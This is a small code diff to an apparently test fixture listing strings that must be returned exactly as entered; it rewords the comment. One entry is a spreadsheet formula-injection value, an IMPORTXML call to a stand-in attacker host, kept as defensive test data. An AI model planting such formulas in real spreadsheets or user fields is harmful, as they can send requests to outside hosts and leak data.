@@ -1,4 +1,4 @@
-/** What must come back exactly as it went in. */
+/** Texts that must be returned exactly as entered. */
 export const texts: readonly (readonly [string, string])[] = [
   ['a formula', '=IMPORTXML("https://evil.example/","//a")'],
   ['a sum', '=1+1'],
